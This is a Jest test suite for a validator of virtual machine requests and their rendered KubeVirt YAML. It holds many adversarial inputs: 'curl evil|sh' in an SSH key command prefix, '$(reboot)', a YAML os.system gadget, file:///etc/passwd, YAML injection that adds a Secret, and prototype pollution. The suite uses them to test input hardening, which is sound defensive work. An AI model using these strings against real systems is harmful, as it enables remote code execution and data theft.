/**
 * @jest-environment node
 */
import { parse, parseAllDocuments } from 'yaml';
import { renderVirtualMachine } from '../render/renderVirtualMachine';
import { VirtualMachineRequestError } from './VirtualMachineRequestError';
import {
  validateVirtualMachineRequest,
  virtualMachineRequestProblems,
} from './validateVirtualMachineRequest';
import type { VirtualMachineRequest } from './VirtualMachineRequest';
import { KEYS, sshWireKey } from './__fixtures__/sshKeys';

const base = () => ({
  name: 'web-01',
  namespace: 'team-a',
  cluster: 'prod-east',
  owner: 'group:default/team-a',
  description: 'Web front end for payments',
  size: {
    instancetype: {
      name: 'u1.medium',
      kind: 'VirtualMachineClusterInstancetype',
    },
  },
  image: { containerDisk: { image: 'quay.io/containerdisks/fedora:41' } },
  sshPublicKey: KEYS.ed25519,
  labels: { app: 'web' },
});

type Input = Record<string, any>;
type Case = [title: string, input: unknown, field: string | null];

/** Sets `path` in a copy of the base request; `undefined` deletes the field. */
function withField(path: string, value: unknown): Input {
  const input: Input = base();
  const keys = path.split('.');
  let target: Input = input;
  for (const key of keys.slice(0, -1)) {
    target[key] =
      typeof target[key] === 'object' && target[key] !== null
        ? { ...target[key] }
        : {};
    target = target[key];
  }
  const last = keys[keys.length - 1];
  if (value === undefined) delete target[last];
  else target[last] = value;
  return input;
}

const cases: Case[] = [];
const add = (title: string, input: unknown, field: string | null) =>
  cases.push([title, input, field]);

// Names of the VM, its namespace and cluster: DNS-1123 labels, nothing else.
const BAD_NAMES: unknown[] = [
  '',
  'Web-01',
  'web_01',
  '-web',
  'web-',
  'web.01',
  'a'.repeat(64),
  'wеb', // Cyrillic е
  'ԝeb', // Cyrillic ԝ
  'ＷＥＢ', // fullwidth
  'web\n01',
  'web 01',
  'web\u0000',
  'web\u200b',
  '\u202eweb',
  '../etc',
  'web: x',
  '"web"',
  "web'",
  'web#1',
  '🙂',
  'web\r',
  'web\t',
  '$(reboot)',
  'web/01',
  123,
  null,
  true,
  [],
  { name: 'web' },
];
const GOOD_NAMES = ['a', 'web-01', '0web', 'a'.repeat(54), 'x1-y2-z3'];
for (const value of BAD_NAMES)
  add(`name ${JSON.stringify(value)}`, withField('name', value), 'name');
for (const value of GOOD_NAMES)
  add(`name ${value}`, withField('name', value), null);
add(
  'name long enough to break the root DataVolume name',
  {
    ...withField('name', 'a'.repeat(60)),
    image: {
      registry: { url: 'docker://quay.io/containerdisks/fedora:41' },
      size: '30Gi',
    },
  },
  'name',
);
for (const value of BAD_NAMES.slice(0, 20)) {
  add(
    `namespace ${JSON.stringify(value)}`,
    withField('namespace', value),
    'namespace',
  );
}
for (const value of [
  'kube-system',
  'kube-public',
  'openshift-config',
  'kubevirt',
]) {
  add(`system namespace ${value}`, withField('namespace', value), 'namespace');
}
add('namespace default', withField('namespace', 'default'), null);
for (const value of [
  'Prod',
  'prod east',
  'prod/east',
  '..',
  'prod..east',
  '.prod',
  'a'.repeat(64),
  'prоd',
]) {
  add(
    `cluster ${JSON.stringify(value)}`,
    withField('cluster', value),
    'cluster',
  );
}
for (const value of ['prod', 'prod.eu-1', 'c1'])
  add(`cluster ${value}`, withField('cluster', value), null);
add('missing name', withField('name', undefined), 'name');
add('missing namespace', withField('namespace', undefined), 'namespace');
add('missing cluster', withField('cluster', undefined), 'cluster');
add('missing owner', withField('owner', undefined), 'owner');
add('missing size', withField('size', undefined), 'size');
add('missing image', withField('image', undefined), 'image');

// Owners: group entity refs only.
for (const value of [
  'team-a',
  'group:team-a',
  'group:default/team-a',
  'Group:default/Team_A',
  'group:platform/ops.team',
]) {
  add(`owner ${value}`, withField('owner', value), null);
}
for (const value of [
  'user:default/jane',
  'component:default/web',
  'group:default/team a',
  'group:default/',
  'group::x',
  'group:default/team-a\n',
  'group:a/b/c',
  `group:default/${'a'.repeat(64)}`,
  '<script>alert(1)</script>',
  'group:default/team-a\u202e',
  '${{ secrets.TOKEN }}',
  'group:Default/team-a',
  'group:default/-team',
  '',
  42,
]) {
  add(`owner ${JSON.stringify(value)}`, withField('owner', value), 'owner');
}

// Descriptions: any readable text survives as text; controls and invisible marks do not.
for (const value of [
  'x\n---\napiVersion: v1\nkind: Secret\nmetadata:\n  name: stolen',
  'key: value',
  '|',
  '>-',
  '- item',
  '&anchor',
  '*alias',
  '!!python/object/apply:os.system ["reboot"]',
  '{{ template }}',
  '${{ parameters.x }}',
  '#comment',
  "'",
  '"',
  '\\',
  'é ü 日本語 العربية',
  'line one\nline two\n',
  'trailing spaces   ',
  '%YAML 1.1',
  '... end',
  '? complex key',
  'null',
  'true',
  '0755',
  '@at',
  '`cmd`',
  '<<: *merge',
]) {
  add(
    `description ${JSON.stringify(value)}`,
    withField('description', value),
    null,
  );
}
for (const value of [
  'tab\there',
  'cr\r\nlf',
  'nel\u0085',
  'ls\u2028',
  'ps\u2029',
  'bidi\u202e',
  'bom\ufeff',
  'nul\u0000',
  'zw\u200b',
  'a'.repeat(1001),
  '   ',
  7,
]) {
  add(
    `description ${JSON.stringify(value)}`,
    withField('description', value),
    'description',
  );
}

// Sizes.
for (const value of [
  '4GB',
  '4 Gi',
  '4096',
  '100Mi',
  '127Mi',
  '5Ti',
  '1e9',
  '4m',
  '-1Gi',
  '0',
  '0.5Mi',
  '1.1',
  '9999999999999999999999Gi',
  'Infinity',
  'lots',
  '',
  ' 4Gi',
  '4gi',
  '4Gi\n',
]) {
  add(
    `memory ${JSON.stringify(value)}`,
    { ...base(), size: { cpu: { cores: 2 }, memory: value } },
    'size.memory',
  );
}
add(
  'memory as a number',
  { ...base(), size: { cpu: { cores: 2 }, memory: 4 } },
  'size.memory',
);
for (const value of ['128Mi', '4Gi', '1.5Gi', '4Ti', '8G', '512M']) {
  add(
    `memory ${value}`,
    { ...base(), size: { cpu: { cores: 2 }, memory: value } },
    null,
  );
}
for (const [cpu, field] of [
  [{ cores: 0 }, 'size.cpu.cores'],
  [{ cores: 513 }, 'size.cpu.cores'],
  [{ cores: 1.5 }, 'size.cpu.cores'],
  [{ cores: -1 }, 'size.cpu.cores'],
  [{ cores: '2' }, 'size.cpu.cores'],
  [{ cores: Number.NaN }, 'size.cpu.cores'],
  [{ cores: Number.POSITIVE_INFINITY }, 'size.cpu.cores'],
  [{ cores: 2, sockets: 65 }, 'size.cpu.sockets'],
  [{ cores: 2, threads: 9 }, 'size.cpu.threads'],
  [{ cores: 64, sockets: 16 }, 'size.cpu'],
  [{ cores: 2, numa: true }, 'size.cpu.numa'],
  [{}, 'size.cpu.cores'],
] as const) {
  add(
    `cpu ${JSON.stringify(cpu)}`,
    { ...base(), size: { cpu, memory: '4Gi' } },
    field,
  );
}
for (const cpu of [
  { cores: 1 },
  { cores: 512 },
  { cores: 16, sockets: 2, threads: 2 },
  { cores: 8, sockets: 64 },
]) {
  add(
    `cpu ${JSON.stringify(cpu)}`,
    { ...base(), size: { cpu, memory: '4Gi' } },
    null,
  );
}
for (const name of [
  'U1.medium',
  'u1.medium\n',
  '../../x',
  'a'.repeat(254),
  'u1 medium',
  '',
]) {
  add(
    `instancetype ${JSON.stringify(name)}`,
    withField('size', { instancetype: { name } }),
    'size.instancetype.name',
  );
}
add(
  'instancetype kind Pod',
  withField('size', { instancetype: { name: 'u1.medium', kind: 'Pod' } }),
  'size.instancetype.kind',
);
add(
  'instancetype and custom at once',
  withField('size', {
    instancetype: { name: 'u1.medium' },
    cpu: { cores: 2 },
    memory: '4Gi',
  }),
  'size.cpu',
);
add('size neither form', withField('size', { vcpus: 2 }), 'size');
add('size as text', withField('size', 'large'), 'size');
add(
  'namespaced instancetype',
  withField('size', {
    instancetype: { name: 'team.big', kind: 'VirtualMachineInstancetype' },
  }),
  null,
);
add(
  'preference',
  withField('size', {
    instancetype: { name: 'u1.medium' },
    preference: { name: 'windows.11.virtio' },
  }),
  null,
);
add(
  'preference name with newline',
  withField('size', {
    instancetype: { name: 'u1.medium' },
    preference: { name: 'fedora\nkind: x' },
  }),
  'size.preference.name',
);

// OS images.
for (const image of [
  'quay.io/containerdisks/fedora:41',
  'fedora',
  'localhost:5000/vm/disk:v1',
  `quay.io/x/y@sha256:${'a'.repeat(64)}`,
  'registry.example.com:8443/a/b/c:1.0-rc_1',
]) {
  add(
    `containerDisk ${image}`,
    withField('image', { containerDisk: { image } }),
    null,
  );
}
for (const image of [
  'docker://quay.io/x:1',
  'quay.io/Fedora:41',
  'quay.io/x:tag with space',
  'x:tag\nkind: Secret',
  '',
  'x'.repeat(600),
  `quay.io/x:${'t'.repeat(129)}`,
  'quay.io/x@sha256:abc',
  'quаy.io/x', // Cyrillic а
  '-x',
]) {
  add(
    `containerDisk ${JSON.stringify(image)}`,
    withField('image', { containerDisk: { image } }),
    'image.containerDisk.image',
  );
}
for (const url of [
  'docker://quay.io/containerdisks/fedora:41',
  'docker://registry:5000/a/b',
]) {
  add(
    `registry ${url}`,
    withField('image', {
      registry: { url },
      size: '30Gi',
      storageClass: 'fast',
    }),
    null,
  );
}
for (const url of [
  'quay.io/x:1',
  'https://quay.io/x',
  'docker://',
  'docker://x y',
  'oci://x',
]) {
  add(
    `registry ${JSON.stringify(url)}`,
    withField('image', { registry: { url }, size: '30Gi' }),
    'image.registry.url',
  );
}
for (const url of [
  'https://example.com/images/disk.qcow2',
  'http://10.0.0.1:8080/a.img?x=1&y=2',
  'https://example.com/a%20b.iso',
]) {
  add(`http ${url}`, withField('image', { http: { url }, size: '30Gi' }), null);
}
for (const url of [
  'http://user:pass@example.com/disk.img',
  'ftp://example.com/disk.img',
  'https://example.com/a b',
  'https://例え.jp/disk.img',
  // eslint-disable-next-line no-script-url
  'javascript:alert(1)',
  'file:///etc/passwd',
  'not a url',
  'https://example.com/\nkind: Secret',
  `https://example.com/${'a'.repeat(2100)}`,
]) {
  add(
    `http ${JSON.stringify(url.slice(0, 40))}`,
    withField('image', { http: { url }, size: '30Gi' }),
    'image.http.url',
  );
}
add(
  'DataSource',
  withField('image', {
    dataSource: { name: 'fedora', namespace: 'os-images' },
    size: '30Gi',
  }),
  null,
);
add(
  'DataSource without namespace',
  withField('image', { dataSource: { name: 'fedora' }, size: '30Gi' }),
  'image.dataSource.namespace',
);
add(
  'DataSource bad name',
  withField('image', {
    dataSource: { name: 'Fedora 41', namespace: 'os-images' },
    size: '30Gi',
  }),
  'image.dataSource.name',
);
add(
  'registry without size',
  withField('image', { registry: { url: 'docker://quay.io/x:1' } }),
  'image.size',
);
for (const size of ['30GB', '0', '512', '100Ti', '1.5m']) {
  add(
    `disk image size ${size}`,
    withField('image', { registry: { url: 'docker://quay.io/x:1' }, size }),
    'image.size',
  );
}
add(
  'bad storage class',
  withField('image', {
    registry: { url: 'docker://quay.io/x:1' },
    size: '30Gi',
    storageClass: 'Fast SSD',
  }),
  'image.storageClass',
);
add(
  'two image kinds',
  withField('image', {
    containerDisk: { image: 'fedora' },
    http: { url: 'https://x/y' },
  }),
  'image',
);
add('unknown image kind', withField('image', { iso: 'x' }), 'image');

// Extra disks.
const disk = (name: string, size = '10Gi', extra: object = {}) => ({
  name,
  size,
  ...extra,
});
add('one data disk', { ...base(), disks: [disk('data')] }, null);
add(
  'fifteen data disks',
  { ...base(), disks: Array.from({ length: 15 }, (_, i) => disk(`d${i}`)) },
  null,
);
add(
  'sixteen data disks',
  { ...base(), disks: Array.from({ length: 16 }, (_, i) => disk(`d${i}`)) },
  'disks',
);
add(
  'disk named rootdisk',
  { ...base(), disks: [disk('rootdisk')] },
  'disks[0].name',
);
add(
  'disk named cloudinitdisk',
  { ...base(), disks: [disk('cloudinitdisk')] },
  'disks[0].name',
);
add(
  'duplicate disk names',
  { ...base(), disks: [disk('data'), disk('data')] },
  'disks[1].name',
);
add(
  'disk name too long with the VM name',
  { ...base(), name: 'a'.repeat(50), disks: [disk('b'.repeat(20))] },
  'disks[0].name',
);
add(
  'disk name uppercase',
  { ...base(), disks: [disk('Data')] },
  'disks[0].name',
);
add(
  'disk without size',
  { ...base(), disks: [{ name: 'data' }] },
  'disks[0].size',
);
add(
  'disk with extra field',
  { ...base(), disks: [disk('data', '10Gi', { bus: 'scsi' })] },
  'disks[0].bus',
);
add('disks not a list', { ...base(), disks: { name: 'data' } }, 'disks');

// Network interfaces.
add(
  'pod bridge',
  {
    ...base(),
    networkInterfaces: [{ name: 'default', type: 'pod', binding: 'bridge' }],
  },
  null,
);
add(
  'pod and two multus',
  {
    ...base(),
    networkInterfaces: [
      { name: 'default', type: 'pod' },
      { name: 'storage', type: 'multus', networkName: 'storage-net' },
      {
        name: 'backup',
        type: 'multus',
        networkName: 'infra/backup-net',
        binding: 'bridge',
      },
    ],
  },
  null,
);
add(
  'multus masquerade',
  {
    ...base(),
    networkInterfaces: [
      { name: 'n', type: 'multus', networkName: 'x', binding: 'masquerade' },
    ],
  },
  'networkInterfaces[0].binding',
);
add(
  'sriov type',
  { ...base(), networkInterfaces: [{ name: 'n', type: 'sriov' }] },
  'networkInterfaces[0].type',
);
add(
  'missing type',
  { ...base(), networkInterfaces: [{ name: 'n' }] },
  'networkInterfaces[0].type',
);
add(
  'two pod interfaces',
  {
    ...base(),
    networkInterfaces: [
      { name: 'a', type: 'pod' },
      { name: 'b', type: 'pod' },
    ],
  },
  'networkInterfaces[1].type',
);
add(
  'duplicate interface names',
  {
    ...base(),
    networkInterfaces: [
      { name: 'a', type: 'pod' },
      { name: 'a', type: 'multus', networkName: 'x' },
    ],
  },
  'networkInterfaces[1].name',
);
add(
  'network name a/b/c',
  {
    ...base(),
    networkInterfaces: [{ name: 'a', type: 'multus', networkName: 'a/b/c' }],
  },
  'networkInterfaces[0].networkName',
);
add(
  'network name NS/name',
  {
    ...base(),
    networkInterfaces: [{ name: 'a', type: 'multus', networkName: 'NS/name' }],
  },
  'networkInterfaces[0].networkName',
);
add(
  'pod binding slirp',
  {
    ...base(),
    networkInterfaces: [{ name: 'a', type: 'pod', binding: 'slirp' }],
  },
  'networkInterfaces[0].binding',
);
add('no interfaces', { ...base(), networkInterfaces: [] }, 'networkInterfaces');
add(
  'nine interfaces',
  {
    ...base(),
    networkInterfaces: Array.from({ length: 9 }, (_, i) => ({
      name: `n${i}`,
      type: 'multus',
      networkName: `net${i}`,
    })),
  },
  'networkInterfaces',
);

// SSH keys.
for (const [type, key] of Object.entries(KEYS).filter(
  ([t]) => t !== 'rsa1024Weak',
))
  add(`ssh key ${type}`, withField('sshPublicKey', key), null);
add(
  'ssh key with a trailing newline',
  withField('sshPublicKey', `${KEYS.ed25519}\n`),
  null,
);
add(
  'ssh key with a comment with spaces and colons',
  withField(
    'sshPublicKey',
    `${KEYS.ed25519.split(' ').slice(0, 2).join(' ')} Jane Doe: laptop #2`,
  ),
  null,
);
add(
  'security key ed25519',
  withField(
    'sshPublicKey',
    sshWireKey('sk-ssh-ed25519@openssh.com', [
      Buffer.alloc(32, 7),
      Buffer.from('ssh:'),
    ]),
  ),
  null,
);
const sshBad: Array<[string, unknown]> = [
  ['rsa 1024', KEYS.rsa1024Weak],
  [
    'dsa',
    sshWireKey('ssh-dss', [
      Buffer.alloc(128, 1),
      Buffer.alloc(20, 1),
      Buffer.alloc(128, 1),
      Buffer.alloc(128, 1),
    ]),
  ],
  [
    'certificate',
    `ssh-ed25519-cert-v01@openssh.com ${KEYS.ed25519.split(' ')[1]}`,
  ],
  ['options prefix', `command="curl evil|sh",no-pty ${KEYS.ed25519}`],
  ['restrict prefix', `restrict ${KEYS.ed25519}`],
  ['two keys', `${KEYS.ed25519}\n${KEYS.ecdsa256}`],
  [
    'comment with newline and cloud-config',
    `${KEYS.ed25519}\nssh_pwauth: true`,
  ],
  ['comment with carriage return', `${KEYS.ed25519} jane\rroot`],
  ['comment with bidi override', `${KEYS.ed25519} \u202ejane`],
  ['comment with NUL', `${KEYS.ed25519} a\u0000b`],
  ['truncated body', KEYS.ed25519.slice(0, 40)],
  ['type says rsa, body ed25519', `ssh-rsa ${KEYS.ed25519.split(' ')[1]}`],
  ['body garbage', 'ssh-ed25519 !!!!'],
  ['body not base64 length', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA'],
  ['look-alike type', `ssh-еd25519 ${KEYS.ed25519.split(' ')[1]}`],
  ['private key', '-----BEGIN OPENSSH PRIVATE KEY-----'],
  ['only type', 'ssh-ed25519'],
  ['empty', ''],
  ['spaces only', '   '],
  ['huge', `ssh-rsa ${'A'.repeat(20000)}`],
  ['number', 42],
  [
    'ecdsa curve mismatch',
    sshWireKey('ecdsa-sha2-nistp256', [
      Buffer.from('nistp384'),
      Buffer.concat([Buffer.from([4]), Buffer.alloc(96, 1)]),
    ]),
  ],
  ['ed25519 key too short', sshWireKey('ssh-ed25519', [Buffer.alloc(31, 1)])],
  [
    'ed25519 trailing bytes',
    sshWireKey('ssh-ed25519', [Buffer.alloc(32, 1), Buffer.from('x')]),
  ],
  ['leading options-like comma', `no-agent-forwarding,no-pty ${KEYS.ed25519}`],
];
for (const [title, key] of sshBad)
  add(`ssh key: ${title}`, withField('sshPublicKey', key), 'sshPublicKey');

// Run strategies.
for (const value of ['Always', 'Halted', 'Manual', 'RerunOnFailure'])
  add(`runStrategy ${value}`, withField('runStrategy', value), null);
for (const value of ['always', 'Once', 'WaitAsReceiver', '', 1, null]) {
  add(
    `runStrategy ${JSON.stringify(value)}`,
    withField('runStrategy', value),
    'runStrategy',
  );
}

// Labels.
for (const [key, value] of [
  ['app.kubernetes.io/name', 'web'],
  ['example.com/team', 'payments'],
  ['constructor', 'x'],
  ['toString', 'y'],
  ['hasOwnProperty', 'z'],
  ['tier', 'on'],
  ['env', 'yes'],
  ['mode', '0755'],
  ['empty', ''],
  ['a'.repeat(63), 'b'.repeat(63)],
  ['vmportal.io/system', 'payments'],
  ['vmportal.io/lifecycle', 'experimental'],
] as const) {
  add(`label ${key}=${value}`, withField('labels', { [key]: value }), null);
}
for (const [key, value, field] of [
  ['App Name', 'x', 'labels["App Name"]'],
  [
    'app.kubernetes.io/managed-by',
    'me',
    'labels["app.kubernetes.io/managed-by"]',
  ],
  ['vmportal.io/owner', 'other-team', 'labels["vmportal.io/owner"]'],
  ['kubevirt.io/domain', 'x', 'labels["kubevirt.io/domain"]'],
  [
    'node-role.kubernetes.io/master',
    '',
    'labels["node-role.kubernetes.io/master"]',
  ],
  ['logVerbosity', '9', 'labels.logVerbosity'],
  ['debugLogs', 'true', 'labels.debugLogs'],
  ['a/b/c', 'x', 'labels["a/b/c"]'],
  ['/x', 'x', 'labels["/x"]'],
  ['x/', 'x', 'labels["x/"]'],
  ['a'.repeat(64), 'x', `labels.${'a'.repeat(64)}`],
  ['exämple.com/x', 'x', 'labels["exämple.com/x"]'],
  ['app', 'x\ny', 'labels.app'],
  ['app', 'v:w', 'labels.app'],
  ['app', 'a'.repeat(64), 'labels.app'],
  ['app', '-x', 'labels.app'],
  ['app', 5, 'labels.app'],
] as const) {
  add(
    `label ${JSON.stringify(key).slice(0, 40)}=${JSON.stringify(value)}`,
    withField('labels', { [key]: value }),
    field,
  );
}
add(
  '33 labels',
  withField(
    'labels',
    Object.fromEntries(Array.from({ length: 33 }, (_, i) => [`l${i}`, 'x'])),
  ),
  'labels',
);

// Unknown fields, prototype pollution, shapes that are not a request.
add('unknown field', { ...base(), extra: 1 }, 'extra');
add('apiVersion field', { ...base(), apiVersion: 'v1' }, 'apiVersion');
add(
  '__proto__ at the top (JSON)',
  JSON.parse(
    `{"__proto__": {"polluted": true}, ${JSON.stringify(base()).slice(1)}`,
  ),
  '__proto__',
);
add(
  '__proto__ label (JSON)',
  { ...base(), labels: JSON.parse('{"__proto__": "x", "app": "web"}') },
  'labels.__proto__',
);
add(
  '__proto__ inside size (JSON)',
  {
    ...base(),
    size: JSON.parse(
      '{"instancetype": {"name": "u1.medium"}, "__proto__": {"cpu": 1}}',
    ),
  },
  'size.__proto__',
);
add(
  'constructor field at the top',
  { ...base(), constructor: 'x' },
  'constructor',
);
add('null', null, 'request');
add('array', [base()], 'request');
add('text', 'name: web', 'request');
add('number', 42, 'request');
add(
  'huge request',
  { ...base(), description: 'x'.repeat(70 * 1024) },
  'request',
);
const circular: Input = base();
circular.self = circular;
add('circular request', circular, 'request');

/** Whether text has a character that could break a log line, a terminal or a YAML file. */
function hasUnsafeCharacter(text: string): boolean {
  return [...text].some(char => {
    const code = char.codePointAt(0)!;
    return (
      code < 0x20 ||
      (code >= 0x7f && code <= 0x9f) ||
      (code >= 0x200b && code <= 0x200f) ||
      (code >= 0x2028 && code <= 0x202e) ||
      code === 0xfeff
    );
  });
}

/** Reads a VM request back out of the rendered YAML, the way a reviewer would. */
function requestFromFiles(
  files: Record<string, string>,
  cluster: string,
): VirtualMachineRequest {
  const vmFile = Object.keys(files).find(f =>
    f.endsWith('/virtualmachine.yaml'),
  )!;
  const documents = parseAllDocuments(files[vmFile]);
  expect(documents).toHaveLength(1);
  for (const version of ['1.1', '1.2'] as const) {
    expect(parse(files[vmFile], { version })).toEqual(parse(files[vmFile]));
  }
  const vm = parse(files[vmFile]);
  const spec = vm.spec;
  const template = spec.template.spec;
  const labels = { ...vm.metadata.labels };
  delete labels['app.kubernetes.io/managed-by'];
  delete labels['vmportal.io/owner'];
  const volume = (name: string) =>
    template.volumes.find((v: any) => v.name === name);
  const dataVolume = (name: string) =>
    spec.dataVolumeTemplates?.find((dv: any) => dv.metadata.name === name)
      ?.spec;
  const storageOf = (dv: any) => ({
    size: dv.storage.resources.requests.storage,
    ...(dv.storage.storageClassName && {
      storageClass: dv.storage.storageClassName,
    }),
  });
  const root = volume('rootdisk');
  let image: any;
  if (root.containerDisk)
    image = { containerDisk: { image: root.containerDisk.image } };
  else {
    const dv = dataVolume(root.dataVolume.name);
    if (dv.sourceRef)
      image = {
        dataSource: {
          name: dv.sourceRef.name,
          namespace: dv.sourceRef.namespace,
        },
        ...storageOf(dv),
      };
    else if (dv.source.registry)
      image = { registry: { url: dv.source.registry.url }, ...storageOf(dv) };
    else image = { http: { url: dv.source.http.url }, ...storageOf(dv) };
  }
  const userData: string = volume('cloudinitdisk').cloudInitNoCloud.userData;
  expect(userData.startsWith('#cloud-config\n')).toBe(true);
  expect(parseAllDocuments(userData)).toHaveLength(1);
  const cloudConfig = parse(userData, { version: '1.1' });
  expect(Object.keys(cloudConfig).sort()).toEqual(
    cloudConfig.ssh_authorized_keys
      ? ['ssh_authorized_keys', 'ssh_pwauth']
      : ['ssh_pwauth'],
  );
  expect(cloudConfig.ssh_pwauth).toBe(false);
  const domain = template.domain;
  const size: any = spec.instancetype
    ? {
        instancetype: {
          name: spec.instancetype.name,
          kind: spec.instancetype.kind,
        },
      }
    : { cpu: domain.cpu, memory: domain.memory.guest };
  if (spec.preference)
    size.preference = {
      name: spec.preference.name,
      kind: spec.preference.kind,
    };
  return {
    name: vm.metadata.name,
    namespace: vm.metadata.namespace,
    cluster,
    owner: vm.metadata.annotations['vmportal.io/owner'],
    ...(vm.metadata.annotations['vmportal.io/description'] !== undefined && {
      description: vm.metadata.annotations['vmportal.io/description'],
    }),
    size,
    image,
    disks: domain.devices.disks
      .filter((d: any) => !['rootdisk', 'cloudinitdisk'].includes(d.name))
      .map((d: any) => ({
        name: d.name,
        ...storageOf(dataVolume(volume(d.name).dataVolume.name)),
      })),
    networkInterfaces: domain.devices.interfaces.map((nic: any) => {
      const network = template.networks.find((n: any) => n.name === nic.name);
      return network.pod
        ? {
            name: nic.name,
            type: 'pod',
            binding: nic.masquerade ? 'masquerade' : 'bridge',
          }
        : {
            name: nic.name,
            type: 'multus',
            networkName: network.multus.networkName,
            binding: 'bridge',
          };
    }),
    ...(cloudConfig.ssh_authorized_keys && {
      sshPublicKey: cloudConfig.ssh_authorized_keys[0],
    }),
    runStrategy: spec.runStrategy,
    labels,
  };
}

describe('validateVirtualMachineRequest', () => {
  it('has at least 200 adversarial cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(200);
  });

  const refused = cases
    .filter(([, , field]) => field !== null)
    .map(([title, input, field]) => [title, field!, input] as const);
  const accepted = cases.filter(([, , field]) => field === null);

  it.each(refused)('refuses %s, naming %s', (_title, field, input) => {
    const problems = virtualMachineRequestProblems(input);
    expect(problems.map(p => p.field)).toContain(field);
    expect(
      problems.filter(p => hasUnsafeCharacter(p.field + p.message)),
    ).toEqual([]);
    expect(problems.filter(p => p.message.length < 12)).toEqual([]);
    expect(() => validateVirtualMachineRequest(input)).toThrow(
      VirtualMachineRequestError,
    );
  });

  it.each(accepted)('accepts %s and renders exactly it', (_title, input) => {
    expect(virtualMachineRequestProblems(input)).toEqual([]);
    const request = validateVirtualMachineRequest(input);
    const rendered = renderVirtualMachine(request, {
      requestedBy: 'user:default/jane',
    });
    expect(requestFromFiles(rendered.files, request.cluster)).toEqual(request);
  });

  it('lists every problem at once, each as field: what is wrong and how to fix it', () => {
    const input = {
      name: 'Web_01',
      namespace: 'kube-system',
      owner: 'user:default/jane',
      size: { cpu: { cores: 0 }, memory: '4GB' },
      image: { containerDisk: { image: 'docker://quay.io/x:1' } },
      disks: [{ name: 'rootdisk', size: '10' }],
      labels: { 'vmportal.io/owner': 'someone-else' },
      extra: true,
    };
    let error: VirtualMachineRequestError | undefined;
    try {
      validateVirtualMachineRequest(input);
    } catch (e) {
      error = e as VirtualMachineRequestError;
    }
    expect(error).toBeInstanceOf(VirtualMachineRequestError);
    expect(error!.name).toBe('InputError');
    expect(error!.problems.map(p => p.field)).toEqual([
      'name',
      'namespace',
      'cluster',
      'owner',
      'size.cpu.cores',
      'size.memory',
      'image.containerDisk.image',
      'disks[0].size',
      'labels["vmportal.io/owner"]',
      'extra',
      'disks[0].name',
    ]);
    expect(error!.message).toContain(
      "- size.memory: '4GB' is not written the Kubernetes way; write 4Gi",
    );
    expect(error!.message).toContain(
      "- name: contains the uppercase letter 'W'; use only lowercase letters a-z, digits and '-'",
    );
    expect(error!.message).toContain(
      "- disks[0].size: '10' has no unit and would mean 10 bytes; add a unit, e.g. 10Mi or 10Gi",
    );
    expect(error!.message).toContain(
      '- cluster: is missing; choose the cluster',
    );
  });

  it('fills in defaults and normalises the owner', () => {
    const request = validateVirtualMachineRequest({
      name: 'db',
      namespace: 'team-a',
      cluster: 'c1',
      owner: 'team-a',
      size: { cpu: { cores: 2 }, memory: '8Gi' },
      image: {
        dataSource: { name: 'fedora', namespace: 'os-images' },
        size: '30Gi',
      },
    });
    expect(request).toEqual({
      name: 'db',
      namespace: 'team-a',
      cluster: 'c1',
      owner: 'group:default/team-a',
      size: { cpu: { cores: 2 }, memory: '8Gi' },
      image: {
        dataSource: { name: 'fedora', namespace: 'os-images' },
        size: '30Gi',
      },
      disks: [],
      networkInterfaces: [
        { name: 'default', type: 'pod', binding: 'masquerade' },
      ],
      runStrategy: 'Always',
      labels: {},
    });
  });
});
